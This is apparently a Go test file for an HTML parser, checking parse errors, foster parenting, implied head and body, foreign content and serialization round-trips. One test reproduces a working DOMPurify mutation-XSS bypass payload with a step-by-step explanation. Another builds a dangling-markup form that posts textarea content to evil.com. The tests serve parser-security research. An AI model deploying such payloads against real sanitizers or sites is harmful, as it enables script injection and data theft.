package htmlparse

import (
	"slices"
	"testing"
)

// hasError reports whether any recorded parse error in res carries code.
func hasError(res *Result, code ErrorCode) bool {
	return slices.ContainsFunc(res.Errors, func(e ParseError) bool { return e.Code == code })
}

// eventsByKind returns the tree events in res of the given kind.
func eventsByKind(res *Result, kind EventKind) []TreeEvent {
	var out []TreeEvent
	for _, e := range res.Events {
		if e.Kind == kind {
			out = append(out, e)
		}
	}
	return out
}

// TestSmokeBasicDocument exercises the whole stack on a well-formed page.
func TestSmokeBasicDocument(t *testing.T) {
	const in = `<!DOCTYPE html><html lang="en"><head><title>Hi</title></head><body><p>Hello <b>world</b></p></body></html>`
	res, err := Parse([]byte(in))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	if len(res.Errors) != 0 {
		t.Fatalf("unexpected parse errors: %v", res.Errors)
	}
	if len(res.Events) != 0 {
		t.Fatalf("unexpected tree events: %v", res.Events)
	}
	html := res.Doc.Find(func(n *Node) bool { return n.IsElement("html") })
	if html == nil {
		t.Fatal("no html element")
	}
	if lang, _ := html.LookupAttr("lang"); lang != "en" {
		t.Fatalf("lang = %q, want en", lang)
	}
	title := res.Doc.Find(func(n *Node) bool { return n.IsElement("title") })
	if title == nil || title.Text() != "Hi" {
		t.Fatalf("title = %v", title)
	}
	b := res.Doc.Find(func(n *Node) bool { return n.IsElement("b") })
	if b == nil || b.Text() != "world" {
		t.Fatal("b element missing")
	}
	out := RenderString(res.Doc)
	want := `<!DOCTYPE html><html lang="en"><head><title>Hi</title></head><body><p>Hello <b>world</b></p></body></html>`
	if out != want {
		t.Fatalf("render:\n got %q\nwant %q", out, want)
	}
}

func TestSmokeErrorSignals(t *testing.T) {
	cases := []struct {
		name string
		in   string
		code ErrorCode
	}{
		{"FB1 slash between attributes", `<img/src="x"/onerror="a()">`, ErrUnexpectedSolidusInTag},
		{"FB2 missing whitespace", `<img src="u"onerror="a()">`, ErrMissingWhitespaceBetweenAttributes},
		{"DM3 duplicate attribute", `<div id="a" id="b">`, ErrDuplicateAttribute},
		{"nested form", `<form action="/a"><form action="/b"></form></form>`, ErrNestedFormElement},
		{"second body", `<body><body class="x">`, ErrSecondBodyStartTag},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res, err := Parse([]byte("<!DOCTYPE html><html><head></head><body>" + tc.in))
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if !hasError(res, tc.code) {
				t.Fatalf("want error %s, got %v", tc.code, res.Errors)
			}
		})
	}
}

func TestSmokeFosterParenting(t *testing.T) {
	res, err := Parse([]byte(`<!DOCTYPE html><body><table><tr><strong>Cozi</strong></tr><tr><td>x</td></tr></table>`))
	if err != nil {
		t.Fatal(err)
	}
	if got := eventsByKind(res, EventFosterParented); len(got) == 0 {
		t.Fatalf("no foster parenting events: %v", res.Events)
	}
	strong := res.Doc.Find(func(n *Node) bool { return n.IsElement("strong") })
	if strong == nil {
		t.Fatal("strong missing")
	}
	// The strong element must have been moved in front of the table.
	if strong.Ancestor("table") != nil {
		t.Fatal("strong still inside table")
	}
	table := res.Doc.Find(func(n *Node) bool { return n.IsElement("table") })
	if table == nil || strong.NextSibling != table {
		t.Fatalf("strong not immediately before table")
	}
}

func TestSmokeImpliedHeadBody(t *testing.T) {
	// Google's 404 page shape (paper Figure 12): no head, no body tags.
	res, err := Parse([]byte(`<!DOCTYPE html><html lang=en><meta charset=utf-8><title>Error 404</title><style>p{}</style><a href=//example.org/><span id=logo></span></a><p><b>404.</b>`))
	if err != nil {
		t.Fatal(err)
	}
	if len(eventsByKind(res, EventImpliedHead)) != 1 {
		t.Fatalf("want implied head event, got %v", res.Events)
	}
	if len(eventsByKind(res, EventHeadBroken)) != 1 {
		t.Fatalf("want head broken event (a element), got %v", res.Events)
	}
	if len(eventsByKind(res, EventImpliedBody)) != 1 {
		t.Fatalf("want implied body event, got %v", res.Events)
	}
	// meta/title/style must be in head, a/p in body.
	meta := res.Doc.Find(func(n *Node) bool { return n.IsElement("meta") })
	if meta == nil || meta.Ancestor("head") == nil {
		t.Fatal("meta not in head")
	}
	a := res.Doc.Find(func(n *Node) bool { return n.IsElement("a") })
	if a == nil || a.Ancestor("body") == nil {
		t.Fatal("a not in body")
	}
}

func TestSmokeTextareaEOF(t *testing.T) {
	res, err := Parse([]byte(`<!DOCTYPE html><body><form action="https://evil.com"><input type="submit"><textarea><p>My little secret</p>`))
	if err != nil {
		t.Fatal(err)
	}
	var found bool
	for _, e := range eventsByKind(res, EventAutoClosedAtEOF) {
		if e.Detail == "textarea" {
			found = true
		}
	}
	if !found {
		t.Fatalf("textarea auto-close missing: %v", res.Events)
	}
	ta := res.Doc.Find(func(n *Node) bool { return n.IsElement("textarea") })
	if ta == nil || !ta.AutoClosedAtEOF {
		t.Fatal("textarea node not flagged")
	}
	if ta.Text() != "<p>My little secret</p>" {
		t.Fatalf("textarea swallowed content = %q", ta.Text())
	}
}

func TestSmokeForeignContent(t *testing.T) {
	// Breakout: <div> inside <svg> forces the parser back to HTML.
	res, err := Parse([]byte(`<!DOCTYPE html><body><svg><circle r="1"/><div>x</div>`))
	if err != nil {
		t.Fatal(err)
	}
	ev := eventsByKind(res, EventForeignBreakout)
	if len(ev) != 1 || ev[0].Namespace != NamespaceSVG || ev[0].Detail != "div" {
		t.Fatalf("breakout events = %v", res.Events)
	}
	div := res.Doc.Find(func(n *Node) bool { return n.IsElement("div") })
	if div == nil || div.Namespace != NamespaceHTML {
		t.Fatal("div not back in HTML namespace")
	}
	svg := res.Doc.Find(func(n *Node) bool { return n.Type == ElementNode && n.Data == "svg" })
	if svg == nil || svg.Namespace != NamespaceSVG {
		t.Fatal("svg namespace wrong")
	}

	// Detached foreign markup: <path> without <svg> (HF5_1).
	res, err = Parse([]byte(`<!DOCTYPE html><body><path d="M0 0"/>`))
	if err != nil {
		t.Fatal(err)
	}
	ev = eventsByKind(res, EventForeignElementInHTML)
	if len(ev) != 1 || ev[0].Detail != "path" || ev[0].Namespace != NamespaceSVG {
		t.Fatalf("foreign-element-in-html events = %v", res.Events)
	}
}

func TestSmokeMutationFigure1(t *testing.T) {
	// The Figure 1 DOMPurify bypass. Parse #1 (what a sanitizer sees): the
	// alert sits harmlessly inside a title attribute, and <style> is an
	// HTML element whose <!-- is inert raw text. Serializing and parsing
	// again (what the browser does with the sanitizer's output) moves
	// mglyph directly under mtext, so the whole chain stays in MathML,
	// <style> stops being raw text, <!-- opens a real comment that eats
	// the title attribute's opening, and the img payload materializes.
	const payload = `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`
	res1, err := ParseFragment([]byte(payload), "div")
	if err != nil {
		t.Fatal(err)
	}
	style := res1.Doc.Find(func(n *Node) bool { return n.Type == ElementNode && n.Data == "style" })
	if style == nil {
		t.Fatal("style missing after first parse")
	}
	if style.Namespace != NamespaceHTML {
		t.Fatalf("first parse: style namespace = %v, want html", style.Namespace)
	}
	evil := func(res *Result) *Node {
		return res.Doc.Find(func(n *Node) bool {
			if n.Type != ElementNode || n.Data != "img" {
				return false
			}
			_, ok := n.LookupAttr("onerror")
			return ok
		})
	}
	if evil(res1) != nil {
		t.Fatal("first parse must not contain the armed img element")
	}
	mutated := RenderString(res1.Doc)
	if !contains(mutated, `title="--><img src=1 onerror=alert(1)>"`) {
		t.Fatalf("mutation missing in %q", mutated)
	}
	res2, err := ParseFragment([]byte(mutated), "div")
	if err != nil {
		t.Fatal(err)
	}
	img := evil(res2)
	if img == nil {
		t.Fatalf("second parse did not materialize the payload: %q", RenderString(res2.Doc))
	}
	if v, _ := img.LookupAttr("onerror"); v != "alert(1)" {
		t.Fatalf("onerror = %q", v)
	}
	if img.Namespace != NamespaceHTML {
		t.Fatalf("img namespace = %v", img.Namespace)
	}
}

func contains(s, sub string) bool {
	return len(s) >= len(sub) && (func() bool {
		for i := 0; i+len(sub) <= len(s); i++ {
			if s[i:i+len(sub)] == sub {
				return true
			}
		}
		return false
	})()
}
